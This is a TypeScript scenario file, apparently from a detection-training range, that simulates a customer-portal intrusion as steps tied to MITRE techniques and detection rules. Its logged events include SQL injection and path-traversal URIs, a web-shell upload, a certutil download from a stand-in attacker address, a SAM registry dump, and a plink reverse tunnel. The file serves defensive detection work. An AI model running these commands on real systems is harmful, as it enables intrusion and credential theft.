import { webServer } from '#engine/range/company.ts';
import { cmd, in32, powershell, webWorker } from '#engine/range/programs.ts';
import type { Story } from '#engine/range/story.ts';

const from = '203.0.113.24';
const user = 'IIS APPPOOL\\portal';
const shell = '/portal/uploads/help.aspx';

export const webShell: Story = {
  title: 'A hole in the customer portal, a web shell, and the credentials of the server.',
  truth: 'intrusion',
  why: 'A script was uploaded through the portal and called from the same address; it ran commands on the server.',
  steps: [
    {
      minute: 0,
      technique: 'T1595.002',
      what: 'Tries parameters of the portal for SQL injection, by a tool.',
      rules: ['tool-for-attacks-names-itself', 'sql-injection-tried'],
      play: (scene) => {
        scene.web({
          from,
          uri: '/portal/berths?id=1%20UNION%20SELECT%20name,pass%20FROM%20users',
          status: 500,
          agent: 'sqlmap/1.9',
        });
        scene.web({ from, uri: "/portal/berths?id=1'%20OR%201=1--", status: 500, agent: 'sqlmap/1.9' });
      },
    },
    {
      minute: 6,
      technique: 'T1190',
      what: 'Reads a file of the server through a path.',
      rules: ['path-traversal-answered'],
      play: (scene) => scene.web({ from, uri: '/portal/download?file=../../../../windows/win.ini', status: 200 }),
    },
    {
      minute: 14,
      technique: 'T1505.003',
      what: 'Uploads a script, and calls it.',
      rules: ['script-written-by-web-server', 'script-in-upload-folder-called'],
      play: (scene) => {
        scene.sysmon(
          webServer,
          11,
          webWorker,
          { TargetFilename: 'C:\\inetpub\\portal\\uploads\\help.aspx', CreationUtcTime: '2026-01-01 00:00:00.000' },
          user,
        );
        scene.web({ from, uri: shell, method: 'POST' });
      },
    },
    {
      minute: 15,
      technique: 'T1059.003',
      what: 'Runs commands by it.',
      rules: ['script-in-upload-folder-called', 'web-server-starts-shell', 'privileges-asked-by-command'],
      play: (scene) => {
        scene.web({ from, uri: shell, method: 'POST' });
        scene.run(webServer, { image: cmd, command: 'cmd.exe /c whoami /all', parent: webWorker, user });
        scene.run(webServer, { image: in32('whoami.exe'), command: 'whoami /all', parent: cmd, user });
      },
    },
    {
      minute: 22,
      technique: 'T1105',
      what: 'Fetches a tool with certutil.',
      rules: ['certutil-downloads'],
      play: (scene) =>
        scene.run(webServer, {
          image: in32('certutil.exe'),
          command: `certutil -urlcache -split -f http://${from}/p.exe C:\\Windows\\Temp\\p.exe`,
          parent: cmd,
          user,
        }),
    },
    {
      minute: 30,
      technique: 'T1003.002',
      what: 'Saves the local accounts’ secrets to a file.',
      rules: ['secrets-of-registry-saved'],
      play: (scene) =>
        scene.run(webServer, {
          image: in32('reg.exe'),
          command: 'reg save HKLM\\SAM C:\\Windows\\Temp\\s.hiv',
          parent: cmd,
          user: 'NT AUTHORITY\\SYSTEM',
        }),
    },
    {
      minute: 37,
      technique: 'T1572',
      what: 'Opens a tunnel back to their own host.',
      rules: ['tunnel-opened-to-the-outside'],
      play: (scene) =>
        scene.run(webServer, {
          image: 'C:\\Windows\\Temp\\plink.exe',
          command: `plink.exe -ssh -P 443 -R 3389:127.0.0.1:3389 t@${from}`,
          parent: powershell,
          user: 'NT AUTHORITY\\SYSTEM',
        }),
    },
  ],
};
